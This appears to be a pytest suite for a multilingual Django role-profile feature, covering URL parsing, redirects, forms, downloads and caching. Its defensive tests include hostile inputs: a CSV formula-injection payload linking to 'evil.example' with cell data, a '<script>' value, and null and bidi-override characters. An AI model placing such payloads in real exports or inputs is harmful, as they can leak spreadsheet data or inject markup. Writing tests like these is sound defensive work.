"""Role profiles (/<lang>/profile/?title=…&s=slmo-5&s=itsp-6): the page in each language with
English standing in, marked; the canonical address and the redirects to it; the forms' steps;
every kind of bad value shown back and the rest kept; the downloads; kept from crawlers and
browsers' caches; the switcher keeping the profile; and what a profile costs in queries."""

import csv
import io
import json
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest
from django.http import QueryDict

from skills.framework import profiles
from skills.framework.models import Skill, SkillLevel
from tests.pages import LANGUAGES
from tests.skills import copy_of_slmo

pytestmark = pytest.mark.django_db

PROFILE = "/{lang}/profile/?title=Service+lead&s=itsp-6&s=slmo-5"
# SLMO at level 5, in each language: its name and the start of its description there.
SLMO_5 = {
    "en": ("Service level management", "Ensures service delivery meets agreed service levels."),
    "de": ("Service-Level-Management", "Gewährleistet, dass die Servicebereitstellung die"),
    "ru": ("Управление уровнем услуг", "Обеспечивает соответствие предоставляемых услуг"),
    "it": ("Gestione del livello di servizio", "Assicura che l’erogazione del servizio"),
    "ar": ("إدارة مستوى الخدمة", "يضمن تلبية الخدمات المقدمة لمستويات الخدمة"),
}
# ZEAL at level 6, the profile's highest, in each language (tests/attributes.py).
ZEAL_6 = {
    "en": "Shows invented zeal at level 6.",
    "de": "Zeigt erfundenen Eifer auf Ebene 6.",
    "ru": "Проявляет вымышленное рвение на уровне 6.",
    "it": "Mostra uno zelo inventato al livello 6.",
    "ar": "يُظهر حماسة مُختلَقة في المستوى 6.",
}
CODE_COLUMN = {"en": "Code", "de": "Code", "ru": "Код", "it": "Codice", "ar": "الرمز"}


@pytest.fixture
def two_skills(content):
    """SLMO, and ITSP: a copy of it defined at levels 4 to 6 only."""
    copy_of_slmo("ITSP", defined={4, 5, 6})


def parsed(query):
    return profiles.parse(QueryDict(query))


def query_of(location):
    return parse_qsl(urlsplit(location).query, keep_blank_values=True)


# Parsing


def test_entries_are_ordered_by_code_merged_and_the_last_level_wins():
    profile = parsed("s=SLMO-5&s=itsp-6&s=slmo-3&title=++Lead++")

    assert profile.entries == (("ITSP", 6), ("SLMO", 3))
    assert profile.title == "Lead"
    assert profile.query() == "title=Lead&s=itsp-6&s=slmo-3"
    assert not profile.rejected


def test_a_title_loses_its_control_and_bidi_characters_and_is_cut():
    assert parsed("title=a%00b%E2%80%AEc%0Ad").title == "abc d"
    long = parsed("title=" + "x" * 2000)
    assert long.title == "x" * profiles.MAX_TITLE_LENGTH
    assert [each.reason for each in long.rejected] == [profiles.TITLE_CUT]


def test_at_most_40_entries_the_rest_rejected():
    codes = [f"S{n:03}" for n in range(45)]
    profile = parsed("&".join(f"s={code}-3" for code in codes))

    assert len(profile.entries) == 40
    assert [each.value for each in profile.rejected] == [f"{c}-3" for c in codes[40:]]
    assert {each.reason for each in profile.rejected} == {profiles.TOO_MANY}
    # A skill already in the profile may still change its level.
    assert parsed("&".join([*(f"s={c}-3" for c in codes), "s=s000-7"])).level_of("S000") == 7


def test_a_merged_address_is_read_from_its_query_only():
    profile = parsed(
        "s=slmo-5&merge=https://elsewhere.example/de/profile/%3Ftitle%3DX%26s%3Dslmo-2%26s%3Ditsp-4"
    )

    assert profile.entries == (("ITSP", 4), ("SLMO", 5))  # this profile's levels win
    assert profile.title == "X"
    assert [each.reason for each in parsed("merge=not+an+address").rejected] == [
        profiles.BAD_ADDRESS
    ]


# The page


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_page_shows_each_entry_and_the_attributes_of_the_highest_level(
    client, two_skills, lang
):
    response = client.get(PROFILE.format(lang=lang))
    html = response.text

    assert response.status_code == 200
    name, description = SLMO_5[lang]
    assert name in html and description in html
    assert '<bdi class="code" translate="no">ITSP</bdi>' in html
    assert "<h1><bdi>Service lead</bdi></h1>" in html
    assert ZEAL_6[lang] in html  # level 6, the highest, not 5
    assert "Keeps an invented pace" not in html  # PACE: described at level 5 only
    assert 'id="profile-attributes-heading"' in html


def test_the_german_page_speaks_german_and_marks_english_standing_in(client, two_skills):
    html = client.get(PROFILE.format(lang="de")).text

    assert "Eine Rolle trägt die Verantwortung ihrer höchsten Ebene" in html
    assert "Sicherstellen, beraten" in html  # level 5's guiding phrase
    assert "Ensures service delivery" not in html


def test_the_italian_page_marks_the_english_essence_standing_in(client, two_skills):
    html = client.get("/it/profile/?s=slmo-5").text

    # Level 5's essence has no Italian (tests/attributes.py): English stands in, marked.
    assert '<div class="text fallback" lang="en" dir="ltr">' in html
    assert "Invented essence of level 5" in html
    assert "Assicura che l’erogazione del servizio" in html


@pytest.mark.parametrize(
    ("given", "canonical"),
    [
        ("s=slmo-5&s=itsp-6", "s=itsp-6&s=slmo-5"),
        ("s=SLMO-5", "s=slmo-5"),
        ("s=slmo-5&s=slmo-6", "s=slmo-6"),
        ("title=&s=slmo-5", "s=slmo-5"),
        ("title=+Lead+&s=slmo-5", "title=Lead&s=slmo-5"),
    ],
)
def test_a_profile_named_otherwise_is_redirected_to_its_canonical_address(
    client, two_skills, given, canonical
):
    response = client.get(f"/de/profile/?{given}")

    assert response.status_code == 302
    assert response["Location"] == f"/de/profile/?{canonical}"
    assert client.get(response["Location"]).status_code == 200


def test_the_add_form_s_two_steps_give_the_new_address(client, two_skills):
    first = client.get("/en/profile/?title=Lead&s=slmo-5&add=itsp")

    # The second step asks for one of ITSP's defined levels, carrying the profile along.
    html = first.text
    assert first.status_code == 200
    assert '<select id="profile-level" name="s">' in html
    assert [f'value="itsp-{n}"' in html for n in range(1, 8)] == [False] * 3 + [True] * 3 + [False]
    assert '<input type="hidden" name="title" value="Lead">' in html
    assert '<input type="hidden" name="s" value="slmo-5">' in html
    # Submitting it: the hidden entries, then the chosen one.
    second = client.get("/en/profile/?title=Lead&s=slmo-5&s=itsp-6")
    assert second["Location"] == "/en/profile/?title=Lead&s=itsp-6&s=slmo-5"


def test_adding_a_skill_already_there_offers_to_change_its_level(client, two_skills):
    html = client.get("/en/profile/?s=slmo-5&add=slmo").text

    assert '<option value="slmo-5" selected>' in html
    assert "Adding a skill already in the profile changes its level" in html
    assert client.get("/en/profile/?s=slmo-5&s=slmo-7")["Location"] == "/en/profile/?s=slmo-7"


def test_remove_links_and_the_title_form_give_the_new_addresses(client, two_skills):
    html = client.get("/en/profile/?title=Lead&s=itsp-6&s=slmo-5").text

    assert (
        'href="?title=Lead&amp;s=slmo-5#profile-entries">Remove <bdi>ITSP</bdi> from the profile'
        in html
    )
    assert (
        'href="?title=Lead&amp;s=itsp-6#profile-entries">Remove <bdi>SLMO</bdi> from the profile'
        in html
    )
    assert 'name="title" value="Lead"' in html
    changed = client.get("/en/profile/?title=New+lead&s=itsp-6&s=slmo-5")
    assert changed.status_code == 200 and "<h1><bdi>New lead</bdi></h1>" in changed.text


def test_the_merge_form_adds_another_profile_s_entries(client, two_skills):
    pasted = "https://sfia.example/it/profile/?title=Altro&s=itsp-4"
    response = client.get("/en/profile/", {"s": "slmo-5", "merge": pasted})

    assert response["Location"] == "/en/profile/?title=Altro&s=itsp-4&s=slmo-5"


def test_a_skill_at_a_defined_level_links_to_the_profile_under_way_with_it(client, content):
    assert (
        'href="/de/profile/continue/?s=slmo-5">Zu einem Profil hinzufügen'
        in client.get("/de/skills/slmo/5/").text
    )
    assert "?s=slmo-1" not in client.get("/de/skills/slmo/1/").text  # not defined there


# Bad values


@pytest.mark.parametrize(
    ("query", "shown", "reason"),
    [
        ({"s": "nope-3"}, "nope-3", "no skill has this code"),
        ({"s": "slmo-1"}, "slmo-1", "the skill is not defined at this level"),
        ({"s": "slmo-9"}, "slmo-9", "not a skill’s code and level"),
        ({"s": "slmo"}, "slmo", "not a skill’s code and level"),
        ({"s": "<script>-5"}, "&lt;script&gt;-5", "not a skill’s code and level"),
        ({"s": "a\x00b"}, "ab", "not a skill’s code and level"),
        ({"s": "\u202eslmo-5"}, "slmo-5", "not a skill’s code and level"),
        ({"add": "x y"}, "x y", "not a skill’s code and level"),
        ({"add": "nope"}, "nope", "no skill has this code"),
        ({"merge": "nothing here"}, "nothing here", "not the address of a profile"),
    ],
)
def test_a_bad_value_is_shown_isolated_and_the_rest_kept(client, two_skills, query, shown, reason):
    entries = [query["s"]] if "s" in query else []
    response = client.get("/en/profile/", {**query, "title": "Lead", "s": [*entries, "itsp-5"]})

    html = response.text
    assert response.status_code == 200
    assert f"<li><bdi>{shown}</bdi>: {reason}" in html
    assert html.count("<li><bdi>") == 1  # that one only
    assert '<li class="profile-entry" id="entry-itsp">' in html  # itsp-5 kept


def test_a_hostile_query_is_a_normal_page(client, two_skills):
    title = "\u202e" + "é" * 1000 + "\x00" + "<b>" * 300
    response = client.get("/ar/profile/", {"title": title, "s": ["x" * 2000, "slmo-5"]})

    html = response.text
    assert response.status_code == 200
    assert "<b>" not in html.split("<main", 1)[1]
    assert "\u202e" not in html and "\x00" not in html
    assert "قُصّ العنوان إلى أول 120 حرفًا" in html  # 120: the form for 11 to 99 (mod 100)
    assert "x" * 2001 not in html and ("x" * 59 + "…") in html
    assert "يضمن تلبية الخدمات المقدمة" in html


def test_bytes_that_are_not_utf8_are_shown_replaced(client, two_skills):
    response = client.get("/de/profile/?title=%FF%FE&s=%C3%28-5&s=slmo-5")

    assert response.status_code == 200
    assert "kein Code mit Ebene einer Fähigkeit" in response.text
    assert "Gewährleistet, dass die Servicebereitstellung" in response.text


def test_more_than_40_entries_are_listed_in_the_reader_s_language(client, two_skills):
    query = "&".join(f"s=s{n:03}-3" for n in range(41))
    html = client.get(f"/ru/profile/?{query}").text

    assert "<li><bdi>s040-3</bdi>: в профиле не больше 40 навыков</li>" in html
    assert "<li><bdi>s000-3</bdi>: навыка с таким кодом нет</li>" in html


def test_an_unknown_format_is_not_found(client, two_skills):
    assert client.get("/en/profile/?s=slmo-5&format=pdf").status_code == 404


# Downloads


def download(client, lang, download_format):
    response = client.get(PROFILE.format(lang=lang) + f"&format={download_format}")
    assert response.status_code == 200
    return response


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_csv_has_a_bom_translated_columns_and_a_row_an_entry(client, two_skills, lang):
    response = download(client, lang, "csv")

    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").removeprefix("\ufeff"))))
    header, itsp, slmo = rows
    assert header[0] == CODE_COLUMN[lang]
    assert itsp[:1] + itsp[3:4] == ["ITSP", "6"]
    assert slmo[0:2] == ["SLMO", SLMO_5[lang][0]]
    assert slmo[5].startswith(SLMO_5[lang][1])
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_translation_a_spreadsheet_would_run_is_kept_as_text_in_the_csv(client, two_skills):
    """The issue's case: a German name typed as a formula came out raw, while the Downloads
    page's CSV defused it; one writer (skills/framework/csv_files.py) serves both now."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")'
    Skill.objects.filter(code="SLMO").update(name_de=formula)
    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(description_de="@SUM(1+1)*cmd")

    rows = list(csv.reader(io.StringIO(download(client, "de", "csv").content.decode("utf-8-sig"))))

    slmo = next(row for row in rows if row[0] == "SLMO")
    assert slmo[1] == "'" + formula
    assert slmo[5] == "'@SUM(1+1)*cmd"


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_json_names_each_entry_in_the_page_s_language(client, two_skills, lang):
    profile = json.loads(download(client, lang, "json").content)

    assert profile["title"] == "Service lead" and profile["language"] == lang
    assert profile["highest_level"] == 6
    assert [(e["code"], e["level"]) for e in profile["entries"]] == [("itsp", 6), ("slmo", 5)]
    assert profile["entries"][1]["name"] == SLMO_5[lang][0]
    assert profile["entries"][1]["description"].startswith(SLMO_5[lang][1])
    assert "SFIA Foundation" in profile["attribution"]


def test_the_docx_holds_the_title_the_entries_and_the_attribution(client, two_skills):
    from docx import Document

    document = Document(io.BytesIO(download(client, "de", "docx").content))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)

    assert text.startswith("Service lead\n")
    assert "\u2068SLMO\u2069 Service-Level-Management — Ebene \u20685\u2069" in text
    assert "\u2068ITSP\u2069 Service-Level-Management — Ebene \u20686\u2069" in text
    assert "Gewährleistet, dass die Servicebereitstellung die" in text
    assert "Inhalte aus SFIA, dem Kompetenzrahmen für das Informationszeitalter" in text


@pytest.mark.parametrize("download_format", ["docx", "csv", "json"])
@pytest.mark.parametrize(
    ("title", "kept"),
    [
        ("A%EF%BF%BEB", "AB"),  # U+FFFE: the Word file was a 500
        ("A%EF%B7%90B", "AB"),  # U+FDD0, a noncharacter too
        ("A%C2%9BB", "AB"),  # C1: CONTROL SEQUENCE INTRODUCER
        ("A%00B", "AB"),
        ("A%C2%85B", "A B"),  # C1: NEXT LINE, a line break: a space, as a tab or LF is
        ("A%ED%A0%80B", "A\ufffd\ufffd\ufffdB"),  # not UTF-8: Django reads U+FFFD, a character
    ],
)
def test_a_title_loses_what_the_text_policy_refuses_in_every_download(
    client, two_skills, title, kept, download_format
):
    from docx import Document

    response = client.get(f"/en/profile/?title={title}&s=slmo-5&format={download_format}")

    assert response.status_code == 200
    if download_format == "docx":
        # Isolated, as the page's <bdi> does.
        assert Document(io.BytesIO(response.content)).paragraphs[0].text == kept
    if download_format == "json":
        assert json.loads(response.content)["title"] == kept


def test_file_names_come_from_the_title_in_utf8_with_an_ascii_fallback(client, two_skills):
    response = client.get(
        "/ar/profile/", {"title": "مدير الخدمة: Zürich/2", "s": "slmo-5", "format": "csv"}
    )

    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="Zurich-2.csv"; ')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "مدير الخدمة Zürich 2.csv"
    untitled = client.get("/de/profile/?s=slmo-5&format=json")["Content-Disposition"]
    assert 'filename="Rollenprofil.json"' in untitled


def test_the_page_links_to_its_three_downloads(client, two_skills):
    html = client.get(PROFILE.format(lang="en")).text

    for download_format in ("csv", "json", "docx"):
        assert (
            f'href="?title=Service+lead&amp;s=itsp-6&amp;s=slmo-5&amp;format={download_format}"'
            in html
        )


# Crawlers, caches, languages


def test_profiles_are_kept_from_crawlers_and_browsers_caches(client, two_skills):
    response = client.get(PROFILE.format(lang="en"))

    assert response["X-Robots-Tag"] == "noindex"
    assert '<meta name="robots" content="noindex">' in response.text
    assert "no-store" in response["Cache-Control"] or "max-age=0" in response["Cache-Control"]
    lines = client.get("/robots.txt").text.splitlines()
    for lang in LANGUAGES:
        assert f"Disallow: /{lang}/profile/" in lines


def test_the_switcher_and_alternates_keep_the_whole_profile(client, two_skills):
    html = client.get(PROFILE.format(lang="de")).text

    assert (
        '<link rel="canonical" href="http://testserver/de/profile/?title=Service+lead&amp;s=itsp-6&amp;s=slmo-5">'
        in html
    )
    assert (
        'hreflang="ar" href="http://testserver/ar/profile/?title=Service+lead&amp;s=itsp-6&amp;s=slmo-5"'
        in html
    )
    assert "next=%2Fit%2Fprofile%2F%3Ftitle%3DService%2Blead%26s%3Ditsp-6%26s%3Dslmo-5" in html
    # Switching to Italian reads the same profile.
    italian = client.get(
        "/language/it/?next=/it/profile/%3Ftitle%3DService%2Blead%26s%3Ditsp-6%26s%3Dslmo-5",
        follow=True,
    )
    assert "Gestione del livello di servizio" in italian.text
    assert "Mostra uno zelo inventato al livello 6." in italian.text


def test_forty_entries_cost_at_most_four_queries(client, content, django_assert_max_num_queries):
    codes = [f"S{n:03}" for n in range(39)]
    for code in codes:
        copy_of_slmo(code)
    query = "&".join(f"s={code.lower()}-5" for code in [*codes, "slmo"])

    with django_assert_max_num_queries(4):
        response = client.get(f"/ar/profile/?{query}")
    assert response.status_code == 200
    assert response.text.count('class="profile-entry"') == 40
